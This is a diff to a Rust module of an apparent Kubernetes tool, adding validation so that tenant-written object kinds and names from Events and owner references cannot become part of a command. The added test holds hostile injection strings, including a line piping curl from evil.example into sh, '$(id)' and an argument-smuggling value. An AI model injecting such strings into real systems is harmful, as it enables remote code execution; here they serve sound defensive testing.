@@ -10,7 +10,7 @@ use k8s_openapi::{
 use kube::ResourceExt as _;
 
 use super::{
-    admission::{Refusal, classify},
+    admission::{Refusal, classify, is_name},
     looks::Observed,
 };
 use crate::api::time::from_k8s;
@@ -28,8 +28,8 @@ pub(super) fn refusals(seen: &Observed, now: DateTime<Utc>) -> BTreeMap<Maker, R
     let mut said = BTreeMap::new();
     for (event, at) in events {
         let involved = &event.involved_object;
-        let maker = (involved.kind.clone().unwrap_or_default(), involved.name.clone().unwrap_or_default());
-        if stands(seen, &maker, now - at < RECENT) {
+        let Some(maker) = maker(involved.kind.as_deref(), involved.name.as_deref()) else { continue };
+        if stands(seen, &maker, (now - at).abs() < RECENT) {
             said.insert(maker, classify(event.message.as_deref().unwrap_or_default()));
         }
     }
@@ -38,8 +38,8 @@ pub(super) fn refusals(seen: &Observed, now: DateTime<Utc>) -> BTreeMap<Maker, R
         let mut conditions = set.status.iter().flat_map(|status| status.conditions.iter().flatten());
         let failure = conditions
             .find(|condition| condition.type_.as_deref() == Some("ReplicaFailure") && condition.status.as_deref() == Some("True"));
-        if let Some(failure) = failure {
-            said.insert(maker_of(&set.metadata, "ReplicaSet"), classify(failure.message.as_deref().unwrap_or_default()));
+        if let (Some(failure), Some(maker)) = (failure, maker_of(&set.metadata, "ReplicaSet")) {
+            said.insert(maker, classify(failure.message.as_deref().unwrap_or_default()));
         }
     }
     said
@@ -53,9 +53,17 @@ fn last(event: &Event) -> Option<DateTime<Utc>> {
 }
 
 /// The Deployment of a ReplicaSet, the CronJob of a Job: what people write themselves.
-fn maker_of(metadata: &ObjectMeta, kind: &str) -> Maker {
+fn maker_of(metadata: &ObjectMeta, kind: &str) -> Option<Maker> {
     let owner = metadata.owner_references.iter().flatten().find(|owner| owner.controller == Some(true));
-    owner.map_or_else(|| (kind.to_owned(), metadata.name.clone().unwrap_or_default()), |owner| (owner.kind.clone(), owner.name.clone()))
+    owner.and_then(|owner| maker(Some(&owner.kind), Some(&owner.name))).or_else(|| maker(Some(kind), metadata.name.as_deref()))
+}
+
+/// Kind and name, if they can be those of an object. A tenant can write any text into an Event and into an owner reference, and both become part
+/// of a command.
+fn maker(kind: Option<&str>, name: Option<&str>) -> Option<Maker> {
+    let (kind, name) = (kind?, name?);
+    let is_kind = !kind.is_empty() && kind.bytes().all(|byte| byte.is_ascii_alphanumeric());
+    (is_kind && is_name(name) && !name.starts_with('-')).then(|| (kind.to_owned(), name.to_owned()))
 }
 
 /// Whether what an Event says still holds: by the object itself if it can be seen, else as long as it is recent.
@@ -132,6 +140,28 @@ mod tests {
             seen.jobs = Look::Seen(jobs.clone().into_iter().map(read).collect());
             assert_eq!(!refusals(&seen, now()).is_empty(), stands, "{kind} {name} at {at}: {jobs:?}");
         }
+    }
+
+    #[test]
+    fn no_text_of_a_tenant_becomes_a_command() {
+        let (recent, hostile) = ("2026-11-24T08:59:00Z", "web; curl -s https://evil.example/x | sh #");
+        let mut seen = well();
+        let names = [hostile, "web\nrm", "$(id)", "--kubeconfig=x", "", "We b"];
+        let events = names.iter().map(|name| event("Deployment", name, recent, "no")).chain([event("A b;c", "web", recent, "no")]);
+        seen.events = Look::Seen(events.collect());
+        let owner = json!({"apiVersion": "v1", "kind": "Widget", "name": hostile, "uid": "w-1", "controller": true});
+        let failed = json!({"replicas": 0, "conditions": [{"type": "ReplicaFailure", "status": "True", "message": "no"}]});
+        let set = json!({"metadata": {"name": "web-5d9c", "ownerReferences": [owner]}, "status": failed});
+        seen.replica_sets = Look::Seen(vec![read(set)]);
+        let expected = [(("ReplicaSet".to_owned(), "web-5d9c".to_owned()), Refusal::Other("no".to_owned()))];
+        assert_eq!(refusals(&seen, now()), BTreeMap::from(expected));
+    }
+
+    #[test]
+    fn an_event_of_the_future_does_not_stand_forever() {
+        let mut seen = well();
+        seen.events = Look::Seen(vec![event("DaemonSet", "agent", "2099-01-01T00:00:00Z", "no")]);
+        assert_eq!(refusals(&seen, now()), BTreeMap::new());
     }
 
     #[test]
